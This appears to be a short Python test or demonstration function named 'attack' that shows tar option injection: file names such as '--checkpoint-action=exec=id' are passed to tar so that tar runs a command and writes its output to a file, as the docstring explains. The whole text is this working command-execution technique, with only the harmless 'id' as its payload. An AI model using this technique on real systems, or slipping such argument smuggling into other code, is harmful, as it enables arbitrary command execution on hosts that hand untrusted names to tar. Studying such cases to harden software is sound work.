"""No shell, but a file name that is an option: tar runs what --checkpoint-action says."""

import subprocess


def attack(event):
    names = ["--checkpoint=1", "--checkpoint-action=exec=id >%s" % event["out"], "."]
    done = subprocess.run(["tar", "-cf", "/dev/null", "-C", event["tmp"], *names], capture_output=True)
    return done.stderr.decode()
